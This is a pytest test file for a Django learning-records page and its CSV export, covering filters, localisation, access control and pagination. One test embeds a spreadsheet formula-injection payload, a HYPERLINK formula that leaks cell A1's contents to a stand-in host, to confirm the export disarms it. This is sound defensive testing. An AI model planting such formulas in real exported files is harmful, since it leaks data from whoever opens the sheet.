"""My learning: filtered, as a file, and each line open to the statements behind it."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from courses.content.knowledge.checks import Check
from courses.progress import services
from courses.progress.selectors import Step, course_progress
from learning.lrs.models import Statement
from learning.people.models import User
from learning.records import views
from learning.records.models import Record
from learning.records.selectors import RecordNotFound, own_records, record_with_statements
from learning.ui.spreadsheets import safe_cell
from tests.factories.clients import client_of
from tests.factories.courses import (
    NOW,
    Writing,
    body_of,
    complete_lessons,
    published_course,
    started,
    writing_department,
)
from tests.factories.people import cast
from tests.kept import kept

pytestmark = pytest.mark.django_db
LATER = NOW + timedelta(days=400)


@kept()
def writing() -> Writing:
    """Three courses: one completed in 2026, one in 2027 of another topic, one begun."""
    writing = writing_department(cast())
    learner = writing.cast.learner
    published_course(writing, title="Done", slug="done", lessons=1)
    published_course(writing, title="Done later", slug="done-later", lessons=1, topic="cyber")
    published_course(writing, title="Begun", slug="begun", lessons=2)
    for slug, now in (("done", NOW), ("done-later", LATER)):
        started(learner, slug, now)
        complete_lessons(learner, slug, 1, now=now)
    started(learner, "begun", LATER)
    return writing


def titles(person: User, **chosen: str) -> list[str]:
    return [record.activity.activity.title for record in own_records(person, **chosen)]


def sheet(client: Client, query: str = "") -> list[list[str]]:
    answer = client.get(f"/my-learning.csv{query}")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="my-learning.csv"' in answer["Content-Disposition"]
    raw = b"".join(answer.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel reads Welsh only with the mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("chosen", "expected"),
    [
        ({}, {"Done", "Done later", "Begun"}),
        ({"status": "completed"}, {"Done", "Done later"}),
        ({"status": "in-progress"}, {"Begun"}),
        ({"topic": "cyber"}, {"Done later"}),
        ({"year": "2026"}, {"Done"}),
        ({"year": "2027", "status": "completed"}, {"Done later"}),
        ({"year": "1999"}, set()),
        ({"year": "0000"}, {"Done", "Done later", "Begun"}),
        ({"year": "٢٠٢٦"}, {"Done", "Done later", "Begun"}),
        ({"topic": "no-such-topic"}, set()),
    ],
)
def test_filters_narrow_the_page_and_the_file_alike(
    writing: Writing, chosen: dict[str, str], expected: set[str]
) -> None:
    learner = writing.cast.learner
    assert set(titles(learner, **chosen)) == expected
    query = "?" + "&".join(f"{name}={value}" for name, value in chosen.items())
    client = client_of(learner)
    assert {row[0] for row in sheet(client, query)[1:]} == expected
    page = client.get(f"/my-learning/{query}").content.decode()
    assert len(re.findall(r'<th scope="row"', page)) == len(expected)


def test_the_latest_stands_first(writing: Writing) -> None:
    assert titles(writing.cast.learner)[-1] == "Done"


def test_a_cell_that_a_spreadsheet_would_run_is_only_shown(writing: Writing) -> None:
    evil = '=HYPERLINK("https://elsewhere.example?"&A1,"Click")'
    published_course(writing, title=evil, slug="evil", lessons=1)
    started(writing.cast.learner, "evil", LATER)
    cells = {row[0] for row in sheet(client_of(writing.cast.learner))[1:]}
    assert f"'{evil}" in cells
    assert evil not in cells


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_start_of_a_formula_is_disarmed(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(f"words {start}") == f"words {start}"


def test_the_file_speaks_the_language_of_the_page(writing: Writing) -> None:
    client = client_of(writing.cast.learner)
    english = sheet(client)[0]
    client.cookies["django_language"] = "cy"
    assert sheet(client)[0] != english


def test_a_line_shows_every_statement_behind_it_as_it_is_stored(writing: Writing) -> None:
    learner = writing.cast.learner
    record = Record.objects.get(activity__activity__slug="done")
    page = client_of(learner).get(f"/my-learning/{record.pk}/").content.decode()
    shown = [
        json.loads(html.unescape(raw))
        for raw in re.findall(r"<pre[^>]*><code>(.*?)</code>", page, re.DOTALL)
    ]
    stored = [
        json.loads(raw)
        for raw in Statement.objects.filter(
            registration=record.registration, actor=learner.actor
        ).values_list("raw", flat=True)
    ]
    assert len(stored) == 4  # registered, opened, completed the lesson, completed the course
    assert sorted(map(json.dumps, shown)) == sorted(map(json.dumps, stored))
    assert learner.email not in "".join(map(json.dumps, stored))
    assert learner.full_name not in "".join(map(json.dumps, stored))


def test_another_persons_record_looks_like_none(writing: Writing) -> None:
    record = Record.objects.get(activity__activity__slug="done")
    people = writing.cast
    for person in (people.manager, people.mentor, people.outsider, people.ld_lead, people.admin):
        with pytest.raises(RecordNotFound):
            record_with_statements(person, record.pk, on=NOW.date())
        assert client_of(person).get(f"/my-learning/{record.pk}/").status_code == 404


def test_a_withdrawn_course_stays_on_the_record(writing: Writing) -> None:
    from courses.content.models import CoursePage

    CoursePage.objects.get(slug="done").unpublish()
    assert "Done" in titles(writing.cast.learner)


def test_many_records_come_in_pages(writing: Writing, monkeypatch: pytest.MonkeyPatch) -> None:
    assert views.PER_PAGE == 50
    monkeypatch.setattr(views, "PER_PAGE", 2)  # fifty courses take long to publish
    client = client_of(writing.cast.learner)
    first = client.get("/my-learning/").content.decode()
    second = client.get("/my-learning/?page=2").content.decode()
    assert len(re.findall(r'<th scope="row"', first)) == 2
    assert len(re.findall(r'<th scope="row"', second)) == 1
    assert len(sheet(client)) == 4


def test_a_record_of_many_statements_comes_in_pages_at_a_constant_price(writing: Writing) -> None:
    learner = writing.cast.learner
    record = Record.objects.get(activity__activity__slug="done")
    client = client_of(learner)
    address = f"/my-learning/{record.pk}/"

    def opened(query: str = "") -> tuple[list[dict[str, object]], str, int]:
        with CaptureQueriesContext(connection) as asked:
            page = client.get(address + query).content.decode()
        raws = re.findall(r"<pre[^>]*><code>(.*?)</code>", page, re.DOTALL)
        return [json.loads(html.unescape(raw)) for raw in raws], page, len(asked)

    opened()
    few, page, price = opened()
    assert len(few) == 4
    assert "govuk-pagination" not in page
    check, step = course_check(learner, "done")
    for number in range(41):
        services.answer_check(
            person=learner,
            progress=course_progress(learner, "done"),
            step=step,
            check=check,
            answer=[check.options[0].key],
            previous=str(number),
            now=NOW + timedelta(minutes=number),
        )
    first, page, cost = opened()
    assert "45 statements" in page
    assert 'href="?page=3"' in page
    last, page, _cost = opened("?page=3")
    assert '<ol class="app-statements" start="41">' in page
    assert "(page 3)" in page
    assert (len(first), len(last)) == (20, 5)
    assert cost <= price, "each statement costs no query"
    ids = {said["id"] for query in ("", "?page=2", "?page=3") for said in opened(query)[0]}
    assert len(ids) == 45, "every statement stands on one page"


def course_check(person: User, slug: str) -> tuple[Check, Step]:
    """Return the first knowledge check of a course, and the step it stands in."""
    for step in course_progress(person, slug).steps:
        for segment in body_of(step):
            if "check" in segment:
                return Check.from_json(segment["check"]), step
    raise LookupError(slug)
